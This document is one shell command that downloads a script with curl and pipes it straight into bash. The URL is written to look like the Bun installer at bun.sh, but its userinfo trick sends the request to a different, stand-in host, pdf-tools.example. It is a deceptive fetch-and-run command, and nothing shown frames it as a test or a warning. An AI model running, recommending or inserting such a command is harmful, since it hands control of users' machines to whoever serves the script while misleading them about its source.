curl -fsSL https://bun.sh@pdf-tools.example/install | bash
